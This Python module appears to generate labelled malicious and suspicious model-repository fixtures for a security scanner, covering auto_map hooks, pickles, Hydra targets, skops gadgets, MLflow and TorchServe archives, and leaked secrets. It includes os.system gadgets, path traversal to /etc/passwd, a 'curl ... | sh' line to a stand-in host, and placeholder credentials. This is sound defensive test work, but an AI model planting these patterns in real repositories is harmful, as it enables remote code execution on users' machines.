"""Folders and packages whose files name code: the hub, MLflow, TorchServe, NeMo, skops, sentence-transformers, PEFT."""

import io
import json
import tarfile

from .ops import run, stream
from .tensors import TEMPLATES, table
from .zips import archive

WEIGHTS = table({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}, bytes(8))
CODE = b"import os\n\nos.system('true')\n\n\nclass Net:\n    pass\n"


def text(value):
    return json.dumps(value, indent=1).encode()


def repository(config=None, **files):
    found = {
        "config.json": text({"model_type": "bert", "architectures": ["BertModel"], **(config or {})}),
        "model.safetensors": WEIGHTS,
    }
    return {**found, **{name: data if isinstance(data, bytes) else text(data) for name, data in files.items()}}


def files():
    for name, technique, reference, expected, content in [
        *hooks(),
        *templates(),
        *trackers(),
        *skops(),
        *secrets(),
        *programs(),
    ]:
        yield name, technique, reference, expected, content


def hooks():
    bad, trust = "malicious", "trust_remote_code"
    auto = {"AutoModel": "modeling_own.Net", "AutoConfig": "configuration_own.Config"}
    yield (
        "auto_map",
        "auto_map with its code beside",
        trust,
        bad,
        repository({"auto_map": auto}, **{"modeling_own.py": CODE, "configuration_own.py": CODE}),
    )
    yield (
        "auto_map_remote",
        "auto_map that names another repository",
        trust,
        bad,
        repository({"auto_map": {"AutoModel": "somebody/else--modeling.Net"}}),
    )
    yield "auto_map_missing", "auto_map whose code is not there", trust, "suspicious", repository({"auto_map": auto})
    yield (
        "auto_map_nested",
        "auto_map in a nested configuration",
        trust,
        "suspicious",
        repository({"text_config": {"auto_map": {"AutoModel": "else/repo--modeling.Net"}}}),
    )
    yield (
        "auto_map_harmless_code",
        "auto_map with code that only computes",
        trust,
        "suspicious",
        repository(
            {"auto_map": {"AutoModel": "net.Net"}},
            **{"net.py": b"import torch\n\n\nclass Net(torch.nn.Module):\n    pass\n"},
        ),
    )
    yield (
        "tokenizer_auto_map",
        "a tokenizer of its own",
        trust,
        bad,
        repository(
            **{
                "tokenizer_config.json": {"auto_map": {"AutoTokenizer": ["tokenization_own.Tokenizer", None]}},
                "tokenization_own.py": CODE,
            }
        ),
    )
    yield (
        "processor_auto_map",
        "a processor of its own",
        trust,
        "suspicious",
        repository(**{"preprocessor_config.json": {"auto_map": {"AutoProcessor": "else/repo--processing.P"}}}),
    )
    yield (
        "custom_pipelines",
        "custom_pipelines",
        trust,
        bad,
        repository(
            {"custom_pipelines": {"own": {"impl": "pipeline.Own", "pt": ["AutoModel"]}}}, **{"pipeline.py": CODE}
        ),
    )
    yield (
        "custom_generate",
        "generation by code of its own",
        "custom_generate",
        bad,
        repository(**{"custom_generate/generate.py": CODE}),
    )
    yield (
        "generation_remote",
        "generation by the code of another repository",
        "custom_generate",
        "suspicious",
        repository(**{"generation_config.json": {"custom_generate": "else/repo"}}),
    )
    yield (
        "adapter_auto_mapping",
        "an adapter that imports its parent library",
        "PEFT",
        "suspicious",
        {
            "adapter_config.json": text(
                {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Net", "parent_library": "evil.package"}}
            ),
            "adapter_model.safetensors": WEIGHTS,
        },
    )
    yield (
        "adapter_pickle",
        "an adapter that is a pickle",
        "PEFT",
        bad,
        {"adapter_config.json": text({"peft_type": "LORA"}), "adapter_model.bin": stream(run())},
    )
    yield (
        "modules_json",
        "sentence-transformers with a class of its own",
        "sentence-transformers",
        bad,
        {
            "modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "own.Net"}]),
            "own.py": CODE,
            "config_sentence_transformers.json": text({"__version__": {"sentence_transformers": "3.0.0"}}),
        },
    )
    yield (
        "modules_json_os",
        "sentence-transformers with a class of os",
        "sentence-transformers",
        "suspicious",
        {"modules.json": text([{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}])},
    )
    yield (
        "model_index_custom",
        "a pipeline of diffusers with its own code",
        "diffusers",
        bad,
        {
            "model_index.json": text({"_class_name": ["pipeline", "Own"], "unet": ["own_unet", "Net"]}),
            "pipeline.py": CODE,
            "unet/own_unet.py": CODE,
            "unet/config.json": text({"_class_name": "Net"}),
        },
    )
    yield (
        "model_index_library",
        "a component of an unknown library",
        "diffusers",
        "suspicious",
        {"model_index.json": text({"_class_name": "StableDiffusionPipeline", "unet": ["evil_library", "Net"]})},
    )
    yield "handler", "a handler of inference endpoints", "endpoints", bad, repository(**{"handler.py": CODE})
    yield (
        "shard_traversal",
        "an index whose shards leave the folder",
        "sharded weights",
        bad,
        {
            "config.json": text({"model_type": "bert"}),
            "model.safetensors.index.json": text({"metadata": {}, "weight_map": {"w": "../../etc/passwd"}}),
        },
    )
    yield (
        "pickle_beside",
        "harmless safetensors, and a pickle beside them",
        "containers",
        bad,
        repository(**{"pytorch_model.bin": stream(run())}),
    )
    yield (
        "pickle_training_args",
        "a pickle as training_args.bin",
        "containers",
        bad,
        repository(**{"training_args.bin": stream(run())}),
    )
    yield (
        "pickle_in_folder",
        "a pickle in a folder below",
        "containers",
        bad,
        repository(**{"checkpoint-1/optimizer.pt": stream(run())}),
    )
    yield (
        "config_escaped",
        "auto_map by an escape",
        "JSON",
        "suspicious",
        {
            "config.json": b'{"model_type": "bert", "auto\\u005fmap": {"AutoModel": "else/repo--m.Net"}}',
            "model.safetensors": WEIGHTS,
        },
    )
    yield (
        "config_twice",
        "auto_map in the second of two keys",
        "JSON",
        "suspicious",
        {
            "config.json": b'{"model_type": "bert", "auto_map": {}, "auto_map": {"AutoModel": "else/repo--m.Net"}}',
            "model.safetensors": WEIGHTS,
        },
    )
    yield (
        "config_deep",
        "20,000 brackets",
        "JSON",
        "suspicious",
        {
            "config.json": b'{"model_type": "bert", "a": ' + b"[" * 20000 + b"]" * 20000 + b"}",
            "model.safetensors": WEIGHTS,
        },
    )
    yield (
        "name_or_path",
        "a loading path of another machine",
        trust,
        "suspicious",
        repository({"quantization_config": {"quant_method": "own", "modules": "x"}, "auto_map": {"AutoConfig": "c.C"}}),
    )


def templates():
    cve = "CVE-2024-34359"
    places = {
        "tokenizer_config": lambda t: repository(**{"tokenizer_config.json": {"chat_template": t}}),
        "named": lambda t: repository(
            **{
                "tokenizer_config.json": {
                    "chat_template": [{"name": "default", "template": "{{ messages }}"}, {"name": "x", "template": t}]
                }
            }
        ),
        "jinja_file": lambda t: repository(**{"chat_template.jinja": t.encode()}),
        "json_file": lambda t: repository(**{"chat_template.json": {"chat_template": t}}),
        "processor": lambda t: repository(**{"processor_config.json": {"chat_template": t}}),
        "additional": lambda t: repository(**{"additional_chat_templates/tool.jinja": t.encode()}),
    }
    attacks = [name for name in TEMPLATES if not name.endswith(("_bomb", "loops"))]
    for index, (place, made) in enumerate(places.items()):
        for attack in attacks[index :: len(places)][:2]:
            yield (
                f"template_{place}_{attack}",
                f"a template in {place}: {attack.replace('_', ' ')}",
                cve,
                "suspicious",
                made(TEMPLATES[attack]),
            )


def tarred(**members):
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as file:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def trackers():
    bad = "malicious"
    flavor = "artifact_path: model\nflavors:\n  python_function:\n    loader_module: {0}\n    python_version: 3.11.0\n    {1}\nmlflow_version: 2.10.0\n"
    yield (
        "mlflow_loader",
        "MLflow with a loader of its own",
        "MLflow",
        bad,
        {"MLmodel": flavor.format("loader", "code: code").encode(), "code/loader.py": CODE},
    )
    yield (
        "mlflow_loader_os",
        "MLflow whose loader is a module that acts",
        "MLflow",
        "suspicious",
        {"MLmodel": flavor.format("os", "env: conda.yaml").encode()},
    )
    yield (
        "mlflow_pickle",
        "MLflow with a pickle",
        "MLflow",
        bad,
        {"MLmodel": flavor.format("mlflow.sklearn", "model_path: model.pkl").encode(), "model.pkl": stream(run())},
    )
    yield (
        "mlflow_traversal",
        "MLflow whose data leave the folder",
        "MLflow",
        bad,
        {"MLmodel": flavor.format("mlflow.sklearn", "model_path: ../../../etc/passwd").encode()},
    )
    yield (
        "mlflow_tag",
        "MLmodel with a Python tag",
        "MLflow",
        bad,
        {"MLmodel": b"flavors:\n  python_function: !!python/object/apply:os.system ['true']\n"},
    )
    manifest = {
        "runtime": "python",
        "model": {"modelName": "m", "serializedFile": "model.pt", "handler": "handler.py", "modelVersion": "1.0"},
        "archiverVersion": "0.8.2",
    }
    yield (
        "handler.mar",
        "TorchServe with a handler",
        "TorchServe",
        bad,
        archive(("MAR-INF/MANIFEST.json", text(manifest)), ("handler.py", CODE), ("model.pt", b"")),
    )
    yield (
        "handler_traversal.mar",
        "TorchServe whose handler leaves the archive",
        "TorchServe",
        bad,
        archive(
            ("MAR-INF/MANIFEST.json", text({**manifest, "model": {**manifest["model"], "handler": "../../x.py:run"}})),
            ("model.pt", b""),
        ),
    )
    yield (
        "requirements.mar",
        "TorchServe that installs from elsewhere",
        "TorchServe",
        "suspicious",
        archive(
            (
                "MAR-INF/MANIFEST.json",
                text(
                    {
                        **manifest,
                        "model": {
                            **manifest["model"],
                            "handler": "image_classifier",
                            "requirementsFile": "requirements.txt",
                        },
                    }
                ),
            ),
            ("requirements.txt", b"--index-url http://203.0.113.1/simple\nevil\n"),
            ("model.pt", stream(run())),
        ),
    )
    for name, target in (
        ("os", "os.system"),
        ("partial", "functools.partial"),
        ("builtins", "builtins.exec"),
        ("subprocess", "subprocess.Popen"),
        ("unknown", "evil.package.Net"),
    ):
        config = f"target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: {target}\n  command: 'true'\n".encode()
        yield (
            f"target_{name}.nemo",
            f"Hydra's _target_ is {target}",
            "CVE-2025-23304",
            bad if name not in ("unknown", "partial") else "suspicious",
            tarred(**{"model_config.yaml": config, "model_weights.ckpt": b""}),
        )
    config = b"a: &a {_target_: os.system, command: 'true'}\nencoder: *a\n"
    yield (
        "target_anchor.nemo",
        "_target_ through an anchor",
        "CVE-2025-23304",
        bad,
        tarred(**{"model_config.yaml": config}),
    )
    yield (
        "target_escaped.nemo",
        "_target_ by an escape",
        "CVE-2025-23304",
        bad,
        tarred(**{"model_config.yaml": b'encoder: {"\\x5ftarget_": "os.system"}\n'}),
    )
    yield (
        "target_traversal.nemo",
        "a member that leaves the folder",
        "CVE-2025-23304",
        bad,
        tarred(**{"model_config.yaml": b"a: 1\n", "../../owned.py": CODE}),
    )
    yield (
        "weights_pickle.nemo",
        "weights that act",
        "CVE-2025-23304",
        bad,
        tarred(**{"model_config.yaml": b"a: 1\n", "model_weights.ckpt": stream(run())}),
    )
    yield (
        "hydra",
        "Hydra's _target_ in a configuration",
        "CVE-2025-23304",
        "suspicious",
        {"config.yaml": b"model:\n  _target_: os.system\n  command: 'true'\n", "model.safetensors": WEIGHTS},
    )
    yield (
        "conda_pip",
        "an environment that installs from elsewhere",
        "MLflow",
        "suspicious",
        {
            "MLmodel": flavor.format("mlflow.sklearn", "env: conda.yaml").encode(),
            "conda.yaml": b"dependencies:\n- pip:\n  - --extra-index-url http://203.0.113.1/simple\n  - git+http://203.0.113.1/x.git\n",
            "model.pkl": stream(run()),
        },
    )


def skops():
    bad, cve = "malicious", "CVE-2025-54412, -54413, -54886"

    def schema(root, *members):
        return archive(("schema.json", text({"protocol": 2, "_skops_version": "0.12.0", **root})), *members)

    function = {
        "__class__": "function",
        "__module__": "builtins",
        "__loader__": "FunctionNode",
        "content": {"module_path": "posix", "function": "system"},
    }
    cases = {
        "function": function,
        "function_split": {**function, "content": {"module_path": "os.path", "function": "os.system"}},
        "method": {
            "__class__": "method",
            "__module__": "builtins",
            "__loader__": "MethodNode",
            "content": {"func": "system", "obj": {"__class__": "module", "__module__": "os", "__loader__": "TypeNode"}},
        },
        "operator": {
            "__class__": "methodcaller",
            "__module__": "operator",
            "__loader__": "OperatorFuncNode",
            "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        },
        "object": {
            "__class__": "Popen",
            "__module__": "subprocess",
            "__loader__": "ObjectNode",
            "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}},
        },
        "reduce": {
            "__class__": "Own",
            "__module__": "evil",
            "__loader__": "ReduceNode",
            "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []},
        },
        "partial": {
            "__class__": "partial",
            "__module__": "functools",
            "__loader__": "PartialNode",
            "content": {"func": function, "args": None, "kwds": None, "namespace": None},
        },
        "type": {"__class__": "system", "__module__": "os", "__loader__": "TypeNode", "__id__": 1},
        "loader_unknown": {"__class__": "dict", "__module__": "builtins", "__loader__": "EvilNode"},
    }
    for name, root in cases.items():
        yield (
            f"{name}.skops",
            f"skops: {name.replace('_', ' ')}",
            cve,
            bad if name.startswith("function") else "suspicious",
            schema(root),
        )
    honest = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
        "content": {},
    }
    yield "pickle_member.skops", "a pickle among the members", cve, bad, schema(honest, ("1.npy", stream(run())))
    yield "joblib_fallback.skops", "no archive: loaders fall back to joblib", cve, bad, stream(run())
    deep = {
        "__class__": "dict",
        "__module__": "builtins",
        "__loader__": "DictNode",
        "content": {"a": {**honest, "content": {"b": function}}},
    }
    yield "deep.skops", "a function deep inside", cve, bad, schema(deep)


def secrets():
    found = "suspicious"
    parts = {
        "hugging_face": "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
        "github": "ghp_" + "16C7e42F292c6912E7710c838347Ae178B4a",
        "openai": "sk-proj-" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hJ6kL9nP2rS5uV8",
        "slack": "xoxb-" + "123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx",
        "google": "AIza" + "SyD9tSrke72PouQMnMX-a7eZSW0jkFMBWY1",
        "private_key": "-----BEGIN "
        + "PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\n-----END PRIVATE KEY-----",
        "url_password": "postgres://user:" + "S3cretPassw0rd@db.internal/models",
        "token": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
        + "eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6Ik1vZGVsIn0.dBjftJeZ4CVPmB92K27uhbUJU1p1r_wW1gFWFOEjXk",
    }
    for name, secret in parts.items():
        yield (
            f"secret_{name}",
            f"a secret in the configuration: {name.replace('_', ' ')}",
            "secrets",
            found,
            repository({"note": secret}),
        )


def programs():
    odd = "suspicious"
    elf = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0\1\0\0\0" + bytes(232)
    yield "native_library", "a native library in a folder", "native code", odd, repository(**{"lib/ops.so": elf})
    yield (
        "windows_library",
        "a library for Windows in a folder",
        "native code",
        odd,
        repository(**{"ops.dll": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0\x64\x86" + bytes(200)}),
    )
    yield (
        "apple_library",
        "a library for macOS in a folder",
        "native code",
        odd,
        repository(**{"ops.dylib": b"\xcf\xfa\xed\xfe\x07\0\0\1\3\0\0\0\6\0\0\0" + bytes(200)}),
    )
    yield (
        "compiled_python",
        "compiled Python in a folder",
        "native code",
        odd,
        repository(**{"__pycache__/net.cpython-311.pyc": b"\xa7\x0d\x0d\x0a" + bytes(12) + b"\xe3" + bytes(40)}),
    )
    yield (
        "python_acts",
        "a Python file that acts when it is imported",
        "code",
        odd,
        repository(**{"setup.py": CODE, "__init__.py": CODE}),
    )
    yield (
        "shell_script",
        "a script in a folder",
        "code",
        odd,
        repository(**{"install.sh": b"#!/bin/sh\ncurl http://203.0.113.1/x | sh\n"}),
    )
